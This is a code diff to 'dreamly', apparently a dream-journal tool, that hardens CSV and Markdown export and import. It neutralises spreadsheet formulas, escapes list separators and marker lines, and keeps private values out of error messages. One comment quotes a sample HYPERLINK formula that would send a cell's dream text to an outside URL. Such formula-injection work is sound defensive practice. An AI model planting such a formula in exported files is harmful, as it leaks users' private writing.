@@ -149,19 +149,42 @@ CSV_COLUMNS = ("date", "title", "text", "tags", "emotions", "found_emotions", "m
 
 
 def write_csv(dreams: Iterable[dict], out: TextIO) -> int:
-    """One row per dream; `date` and `text` columns, so `dreamly import` reads it back as it is."""
+    """One row per dream; `date` and `text` columns, so `dreamly import` reads it back as it is.
+    Text cells are neutralised for spreadsheets (see csv_cell), lists joined losslessly."""
     writer = csv.writer(out)
     writer.writerow(CSV_COLUMNS)
     count = 0
     for d in dreams:
         writer.writerow((
-            d["dreamt_on"], d["title"], d["body"], ", ".join(d["tags"]), ", ".join(_user_feelings(d)),
-            ", ".join(_found_feelings(d)), ", ".join(_motif_ids(d)), int(d["lucid"]), int(d["nightmare"]),
-            int(d["recurring"]), "" if d["sleep_quality"] is None else d["sleep_quality"], d["context"],
-            d["created"], d["updated"], d["source"] or "", d["id"],
+            d["dreamt_on"], csv_cell(d["title"]), csv_cell(d["body"]), csv_cell(join_list(d["tags"])),
+            csv_cell(join_list(_user_feelings(d))), csv_cell(join_list(_found_feelings(d))),
+            csv_cell(join_list(_motif_ids(d))), int(d["lucid"]), int(d["nightmare"]),
+            int(d["recurring"]), "" if d["sleep_quality"] is None else d["sleep_quality"], csv_cell(d["context"]),
+            d["created"], d["updated"], csv_cell(d["source"] or ""), d["id"],
         ))
         count += 1
     return count
+
+
+# A spreadsheet runs a cell that starts with = + - @ (or tab / CR before them) as a formula:
+# `=HYPERLINK("http://…?d="&C3, …)` would send the dream away when clicked. Such a cell, and one
+# that starts with the quote itself, gets a leading ' (shown as text by spreadsheets); import
+# takes exactly one such quote off again, so the round trip is lossless.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def csv_cell(value: str) -> str:
+    return "'" + value if value.startswith(_FORMULA_START) else value
+
+
+def csv_uncell(value: str) -> str:
+    return value[1:] if value.startswith("'") and value[1:].startswith(_FORMULA_START) else value
+
+
+def join_list(values: Iterable[str]) -> str:
+    """Tags (or feelings) in one cell: `, ` between them, and a `,`, `;` or `\\` inside one
+    escaped with a backslash, so `_split_list` gives back exactly the same list."""
+    return ", ".join(re.sub(r"([\\,;])", r"\\\1", value) for value in values)
 
 
 def _user_feelings(dream: dict) -> list[str]:
@@ -294,10 +317,26 @@ def dream_note(dream: dict) -> str:
     """A dream as a note: front matter, the dream's own text, then its history below a marker
     (the marker is where `import` stops reading the dream)."""
     history = _history(dream, "##")
-    note = front_matter(dream) + dream["body"] + "\n"
+    note = front_matter(dream) + escape_marker_lines(dream["body"]) + "\n"
     if history:
-        note += f"\n{NOTES_MARKER}\n{history}"
+        note += f"\n{NOTES_MARKER}\n{escape_marker_lines(history)}"
     return note
+
+
+# A line of a dream that reads like the notes marker (the marker itself, with any number of
+# backslashes before it) gets one more backslash in a note and loses one on import, so the
+# only line that *is* the marker is the one dreamly wrote, and every line of a dream comes back.
+_MARKER_LINE = re.compile(r"^(\\*)" + re.escape(NOTES_MARKER) + r"[ \t]*$", re.MULTILINE)
+_ESCAPED_MARKER_LINE = re.compile(r"^\\(\\*" + re.escape(NOTES_MARKER) + r"[ \t]*)$", re.MULTILINE)
+_THE_MARKER = re.compile(r"^" + re.escape(NOTES_MARKER) + r"[ \t]*$", re.MULTILINE)
+
+
+def escape_marker_lines(text: str) -> str:
+    return _MARKER_LINE.sub(lambda m: "\\" + m.group(0), text)
+
+
+def unescape_marker_lines(text: str) -> str:
+    return _ESCAPED_MARKER_LINE.sub(lambda m: m.group(1), text)
 
 
 _RESERVED_NAMES = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)), *(f"lpt{i}" for i in range(10))}
@@ -519,11 +558,11 @@ class _Fields:
 
     def day(self, key: str) -> str:
         value = self.required(key)
-        return _iso_day(value, lambda: self.fail(key, f"must be a date like 2026-11-20, not {_shown(value)}"))
+        return _iso_day(value, lambda: self.fail(key, "must be a date like 2026-11-20"))
 
     def stamp(self, key: str, default: str) -> str:
         value = self.text(key, default)
-        return _iso_stamp(value, lambda: self.fail(key, f"must be an ISO timestamp, not {_shown(value)}"))
+        return _iso_stamp(value, lambda: self.fail(key, "must be an ISO timestamp"))
 
     def items(self, key: str) -> list:
         value = self.raw.get(key, [])
@@ -547,11 +586,6 @@ def _iso_stamp(value: str, error: Callable[[], DreamlyError]) -> str:
     except ValueError:
         raise error() from None
     return value  # kept exactly as written: a restore gives back the same timestamps
-
-
-def _shown(value) -> str:
-    text = repr(value)
-    return text if len(text) <= 30 else text[:29] + "…"
 
 
 def _record(*, dreamt_on: str, body: str, created: str, updated: str | None = None, title: str = "",
@@ -683,7 +717,7 @@ def _read_jrnl(path: Path, data: dict) -> list[Incoming]:
         try:  # jrnl's date and time are local: stored as the UTC moment it was written
             written = datetime.fromisoformat(f"{day}T{time}").astimezone(timezone.utc)
         except ValueError:
-            raise f.fail("time", f"must be a time like 07:15, not {_shown(time)}") from None
+            raise f.fail("time", "must be a time like 07:15") from None
         tags = f.items("tags")
         if not all(isinstance(t, str) for t in tags):
             raise f.fail("tags", "must be a list of text")
@@ -709,6 +743,8 @@ def _read_csv(path: Path, stamp: str, today: date | None, date_column: str, text
 
     text = _read_text(path)
     dialect = "excel-tab" if path.suffix.lower() == ".tsv" else "excel"
+    # a dream can be longer than the csv module's 131,072-character default: the file's size bounds it
+    csv.field_size_limit(max(csv.field_size_limit(), len(text) + 1))
     reader = csv.reader(io.StringIO(text, newline=""), dialect=dialect)  # CSV's own line ends, quoted ones too
     try:
         header = next(reader, None)
@@ -719,12 +755,13 @@ def _read_csv(path: Path, stamp: str, today: date | None, date_column: str, text
     columns = {name.strip().lower(): i for i, name in reversed(list(enumerate(header)))}
     for wanted, option in ((date_column, "--date-column"), (text_column, "--text-column")):
         if wanted.strip().lower() not in columns:
-            found = ", ".join(repr(h) for h in header[:12])
-            raise DreamlyError(f"{path}: no '{wanted}' column (found {found}); name it with {option}")
+            # never the header's cells: without a header line, they are the first dream
+            raise DreamlyError(f"{path}: no '{wanted}' column in the first line ({len(header)} column"
+                               f"{'' if len(header) == 1 else 's'}); name it with {option}, or add a header line")
 
     def cell(row: list[str], name: str) -> str:
         i = columns.get(name.strip().lower())
-        return row[i].strip() if i is not None and i < len(row) else ""
+        return csv_uncell(row[i]).strip() if i is not None and i < len(row) else ""
 
     records = []
     line = reader.line_num
@@ -745,10 +782,10 @@ def _read_csv(path: Path, stamp: str, today: date | None, date_column: str, text
             raise DreamlyError(f"{where}: no date in column '{date_column}'")
         try:
             day = parse_day(raw_day, today)
-        except DreamlyError as exc:
-            raise DreamlyError(f"{where}: {exc}") from None
+        except DreamlyError:  # its message quotes the value, which may be a dream in a swapped column
+            raise DreamlyError(f"{where}: the date is not a day dreamly reads (e.g. 2026-11-20)") from None
         i = columns[text_column.strip().lower()]
-        body = _clean_body(row[i] if i < len(row) else "")
+        body = _clean_body(csv_uncell(row[i]) if i < len(row) else "")
         if not body.strip():
             raise DreamlyError(f"{where}: no dream text in column '{text_column}'")
         fields: dict = {}
@@ -764,8 +801,8 @@ def _read_csv(path: Path, stamp: str, today: date | None, date_column: str, text
         for spec in _split_list(cell(row, "emotions")):
             try:
                 name, level = parse_emotion(spec)
-            except DreamlyError as exc:
-                raise DreamlyError(f"{where}: {exc}") from None
+            except DreamlyError:  # never the value: it may be a dream in a swapped column
+                raise DreamlyError(f"{where}: a feeling is not NAME or NAME:1-5 (e.g. fear:4)") from None
             emotions.append({"emotion": name, "intensity": level, "origin": "user"})
         created = cell(row, "created") or stamp
         created = _iso_stamp(created, lambda: DreamlyError(f"{where}: 'created' must be an ISO timestamp"))
@@ -782,7 +819,22 @@ def _read_csv(path: Path, stamp: str, today: date | None, date_column: str, text
 
 
 def _split_list(value: str) -> list[str]:
-    return [part.strip() for part in re.split(r"[,;]", value) if part.strip()]
+    """A cell's list: split at `,` or `;` (not at an escaped `\\,` or `\\;`, see join_list)."""
+    return [part for part in _split_escaped(value) if part]
+
+
+def _split_escaped(value: str) -> list[str]:
+    parts, current, chars = [], [], iter(value)
+    for ch in chars:
+        if ch == "\\":
+            current.append(next(chars, "\\"))
+        elif ch in ",;":
+            parts.append("".join(current).strip())
+            current = []
+        else:
+            current.append(ch)
+    parts.append("".join(current).strip())
+    return parts
 
 
 # Markdown with front matter
@@ -826,10 +878,10 @@ def _read_markdown_file(path: Path, stamp: str, today: date | None, *, required:
             raise DreamlyError(f"{path}: the front matter has no 'date'")
         return None
     body = "\n".join(lines[end + 1:])
-    marker = body.find(NOTES_MARKER)
-    if marker != -1:
-        body = body[:marker]
-    body = _clean_body(body)
+    marker = _THE_MARKER.search(body)  # the marker line dreamly wrote, never a dream's own line
+    if marker:
+        body = body[:marker.start()]
+    body = _clean_body(unescape_marker_lines(body))
     where = f"{path}"
     if not body.strip():
         raise DreamlyError(f"{where}: no dream text after the front matter")
@@ -845,8 +897,8 @@ def _parse_yaml(path: Path, text: str) -> dict:
         mark = exc.problem_mark or exc.context_mark
         line = f", line {mark.line + 2}" if mark else ""
         raise DreamlyError(f"{path}{line}: the front matter is not valid YAML ({exc.problem or exc.context})") from None
-    except (yaml.YAMLError, ValueError) as exc:  # ValueError: a date such as 2026-02-30
-        raise DreamlyError(f"{path}: the front matter is not valid YAML ({exc})") from None
+    except (yaml.YAMLError, ValueError):  # ValueError: a date such as 2026-02-30 (its message quotes it)
+        raise DreamlyError(f"{path}: the front matter is not valid YAML") from None
     if meta is None:
         return {}
     if not isinstance(meta, dict):
@@ -872,8 +924,8 @@ def _record_from_meta(meta: dict, body: str, path: Path, stamp: str, today: date
     elif isinstance(raw_day, str) and raw_day.strip():
         try:
             day = parse_day(raw_day, today)
-        except DreamlyError as exc:
-            raise DreamlyError(f"{where}: {exc}") from None
+        except DreamlyError:  # its message quotes the value, which may be a dream in a swapped column
+            raise DreamlyError(f"{where}: the date is not a day dreamly reads (e.g. 2026-11-20)") from None
     else:
         raise bad("date", "must be a date like 2026-11-20")
 
@@ -925,8 +977,8 @@ def _record_from_meta(meta: dict, body: str, path: Path, stamp: str, today: date
     for spec in specs:
         try:
             name, level = parse_emotion(spec)
-        except DreamlyError as exc:
-            raise DreamlyError(f"{where}: {exc}") from None
+        except DreamlyError:
+            raise DreamlyError(f"{where}: a feeling is not NAME or NAME:1-5 (e.g. fear:4)") from None
         emotions.append({"emotion": name, "intensity": level, "origin": "user"})
     created = stamp_of("created", stamp)
     source = meta.get("source")
